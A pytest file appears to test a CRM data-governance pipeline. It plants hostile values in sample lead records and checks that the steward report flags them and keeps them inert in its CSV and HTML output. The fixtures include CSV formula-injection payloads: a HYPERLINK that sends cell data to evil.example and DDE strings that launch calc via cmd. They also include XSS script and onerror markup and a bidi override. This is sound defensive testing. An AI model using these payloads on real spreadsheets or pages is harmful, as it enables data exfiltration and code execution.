"""Planted formula, markup, bidi and overlong values: findings, never silence; data, never content.

Every e-mail, phone or country the person records leave out, and every conversion or connector
link identity cannot follow, is a governance finding naming the record. The steward report over
the same warehouse: its CSV cells cannot run as formulas, its page has no active content from the
data and isolates every value, and its files are the user's alone.
"""

from __future__ import annotations

import csv
import re
import stat
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser_helpers import chromium
from snapshot_helpers import write_snapshot
from warehouse_helpers import build_warehouse, copy_rules, dbt, rows, run_dbt

from aeglobal_pipeline.report.safe_text import FORMULA_START

SOURCES = [
    {"name": "crm_emea", "kind": "salesforce", "region": "EMEA", "legal_entity": "Northwind Europe GmbH",
     "countries": ["DE", "AT"]},
    {"name": "crm_na", "kind": "salesforce", "region": "NA", "legal_entity": "Northwind Americas Inc.",
     "countries": ["US"]},
    {"name": "ae_emea", "kind": "account_engagement", "region": "EMEA",
     "legal_entity": "Northwind Europe GmbH", "business_unit_id": "0UvEMEA0000000001",
     "connected_crm": "crm_emea"},
]
FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_PHONE = "+cmd|' /C calc'!A0"
MARKUP_COUNTRY = "<script>alert(1)</script>"
BIDI_COUNTRY = "\u202eEDasu"
OVERLONG_MOBILE = "1" * 200
OVERLONG_EMAIL = "x" * 300
FORMULA_NAME = "=1+cmd|' /C calc'!A0"
MARKUP_NAME = '<img src=x onerror="alert(1)">'
LEAD_NA = "00Q000000000002AAA"


def lead(record_id: str, **fields: str) -> dict:
    row = {"Id": record_id, "FirstName": "Anna", "LastName": "Schmidt", "Email": "anna@northwind.de",
           "Phone": "+49 30 1234567", "MobilePhone": "", "Company": "Northwind", "Country": "DE",
           "Status": "Working - Contacted", "IsConverted": "false", "ConvertedContactId": "",
           "LastModifiedDate": "2025-01-10T10:00:00.000+0000", "IsDeleted": "false"}
    return {**row, **fields}


OBJECTS = {
    "crm_emea": {"Lead": [
        lead("00Q000000000001AAA", Email=FORMULA_EMAIL, Phone=FORMULA_PHONE, Country=MARKUP_COUNTRY,
             FirstName=FORMULA_NAME),
        lead("00Q000000000003AAA", Email=OVERLONG_EMAIL, MobilePhone=OVERLONG_MOBILE, Country=BIDI_COUNTRY,
             FirstName=MARKUP_NAME, Company="@SUM(1+1)"),
        lead("00Q000000000004AAA", IsConverted="true", ConvertedContactId="003000000000999AAA"),
    ]},
    "crm_na": {"Lead": [lead(LEAD_NA, Email="bob@acme.com", Country="US", Phone="+1 212 555 0147",
                             FirstName="Bob", LastName="Lee")]},
    "ae_emea": {"Prospect": [
        {"id": "7001", "email": "anna@northwind.de", "firstName": "Anna", "lastName": "Schmidt",
         "country": "DE", "salesforceLeadId": LEAD_NA, "updatedAt": "2025-01-15T08:30:00+00:00",
         "isDeleted": "false"},
        {"id": "7002", "email": "anna@northwind.de", "firstName": "Anna", "lastName": "Schmidt",
         "country": "DE", "salesforceContactId": "003000000000404AAA",
         "updatedAt": "2025-01-15T08:30:00+00:00", "isDeleted": "false"},
    ]},
}
KEY_1, KEY_3, KEY_4 = (f"crm_emea:Lead:00Q00000000000{n}AAA" for n in (1, 3, 4))
PERSONS = {KEY_1: "GP1", KEY_3: "GP1", KEY_4: "GP2", f"crm_na:Lead:{LEAD_NA}": "GP3",
           "ae_emea:Prospect:7001": "GP1", "ae_emea:Prospect:7002": "GP2"}
# (subject, finding type, text the detail must hold): one per planted value or broken link
EXPECTED = [
    (f"{KEY_1} Email", "invalid_email", FORMULA_EMAIL),
    (f"{KEY_1} Phone", "invalid_phone", FORMULA_PHONE),
    (f"{KEY_1} Country", "unknown_country", MARKUP_COUNTRY),
    (f"{KEY_3} Email", "invalid_email", OVERLONG_EMAIL[:80] + "…"),
    (f"{KEY_3} MobilePhone", "invalid_phone", OVERLONG_MOBILE[:80] + "…"),
    (f"{KEY_3} Country", "unknown_country", BIDI_COUNTRY),
    (f"{KEY_4} ConvertedContactId", "dangling_link", "names no current Contact in crm_emea"),
    ("ae_emea:Prospect:7001 salesforceLeadId", "cross_org_link",
     f"names crm_na:Lead:{LEAD_NA}, a record of another org than crm_emea"),
    ("ae_emea:Prospect:7002 salesforceContactId", "dangling_link", "names no current Contact in crm_emea"),
]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("planted")
    snapshot = write_snapshot(base / "snap", OBJECTS, SOURCES)
    warehouse = build_warehouse(base / "home", snapshot, PERSONS, copy_rules(base / "identity_rules"),
                                grey_pairs=[(KEY_1, f"crm_na:Lead:{LEAD_NA}", 0.7),
                                            (KEY_3, "ae_emea:Prospect:7002", 0.6)])
    run_dbt(warehouse)
    return warehouse


@pytest.fixture(scope="module")
def report(built: Path) -> Path:
    from aeglobal_pipeline.report import write_report

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AEGLOBAL_HOME", str(built.parent))
        files = write_report()
    return files.html.parent


def test_each_dropped_value_and_broken_link_is_a_finding(built):
    found = {r["subject"]: r for r in rows(built, "select * from marts.governance_findings "
                                                  "where finding_type in ('invalid_email', 'invalid_phone', "
                                                  "'unknown_country', 'dangling_link', 'cross_org_link')")}
    assert set(found) == {subject for subject, _, _ in EXPECTED}
    for subject, finding_type, text in EXPECTED:
        assert found[subject]["finding_type"] == finding_type
        assert text in found[subject]["detail"], found[subject]["detail"]
        assert found[subject]["record_count"] == 1
    # the good records (the NA lead, the converted lead's own values) raise nothing
    assert not any(subject.startswith(f"crm_na:Lead:{LEAD_NA}") for subject in found)


def test_the_link_logic_unit_test_passes(built):
    output = dbt(built, ["test", "--select", "int_governance__dropped_values,resource_type:unit_test"])
    assert "PASS int_governance__dropped_values::dropped_links" in output, output[-2000:]


def _cells(directory: Path) -> list[str]:
    cells = []
    for path in sorted(directory.glob("steward_report_*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    return cells


def test_each_finding_is_a_line_of_the_steward_report_with_what_to_do(report):
    with (report / "steward_report_governance_findings.csv").open(encoding="utf-8", newline="") as handle:
        lines = {row["subject"]: row for row in csv.DictReader(handle)}
    for subject, finding_type, _ in EXPECTED:
        assert lines[subject]["finding_type"] == finding_type
        assert lines[subject]["action"] not in ("", "review"), lines[subject]
    html = (report / "steward_report.html").read_text(encoding="utf-8")
    assert all(f"<bdi>{subject}</bdi>" in html for subject, _, _ in EXPECTED)


def test_no_csv_cell_is_a_formula(report):
    cells = _cells(report)
    text = "\n".join(cells)
    for planted in (FORMULA_NAME, "@SUM(1+1)"):
        # As a cell of its own (neutralised) or inside a finding's detail (behind its own text).
        shown = [c for c in cells if planted in c]
        assert shown, f"{planted!r} not in the CSV"
        assert all(c == "'" + planted or not c.startswith(planted) for c in shown), shown
    assert FORMULA_EMAIL in text  # in the finding's detail, behind its own text
    for cell in cells:
        if cell and cell[0] in FORMULA_START:
            assert re.fullmatch(r"\+[1-9][0-9]{6,14}", cell), cell


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def test_the_page_has_no_active_content_from_the_data_and_isolates_values(report):
    html = (report / "steward_report.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(html)
    tags = [tag for tag, _ in page.tags]
    assert "img" not in tags
    assert tags.count("script") == 1  # the page's own filter script
    assert "alert(1)" not in "".join(page.scripts)
    assert not [(tag, name) for tag, attrs in page.tags for name, _ in attrs if name.startswith("on")]
    assert "&lt;img src=x onerror=" in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    # every right-to-left override sits inside a <bdi> that closes before anything else
    assert BIDI_COUNTRY in html
    for match in re.finditer("\u202e", html):
        opened, closed = html.rfind("<bdi>", 0, match.start()), html.rfind("</bdi>", 0, match.start())
        assert opened > closed, html[max(0, match.start() - 80): match.start() + 20]
    # overlong values are cut on the page (the CSV keeps them)
    assert "x" * 301 not in html


def test_in_a_browser_the_planted_markup_is_text_and_runs_nothing(report, tmp_path):
    from selenium.common.exceptions import NoAlertPresentException

    with chromium(report / "steward_report.html", tmp_path / "profile") as driver:
        try:
            alert = driver.switch_to.alert.text
        except NoAlertPresentException:
            alert = None
        assert alert is None, f"a planted script ran: {alert!r}"
        shown = driver.execute_script("return document.body.innerText")
        images = driver.execute_script("return document.images.length")
        scripts = driver.execute_script("return document.scripts.length")
    assert images == 0 and scripts == 1  # the page's own filter script only
    assert MARKUP_COUNTRY in shown and MARKUP_NAME in shown  # shown as the text it is


def test_report_files_are_private(report):
    assert stat.S_IMODE(report.stat().st_mode) == 0o700
    for path in report.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
